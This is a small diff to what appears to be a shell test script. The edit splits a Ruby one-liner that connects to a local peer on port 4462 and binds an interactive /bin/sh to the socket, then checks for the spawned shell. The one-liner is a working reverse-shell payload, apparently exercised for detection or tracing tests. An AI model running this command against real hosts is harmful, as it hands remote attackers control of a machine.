@@ -12,6 +12,7 @@ peer 4462
 #: act
 . lib/peers.sh
 act
-ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", 4462); exec("/bin/sh", "-i", :in => s, :out => s, :err => s)' \
+ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", 4462)
+exec("/bin/sh", "-i", :in => s, :out => s, :err => s)' \
   < /dev/null > /dev/null 2>&1 & fact shell $!
 await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'
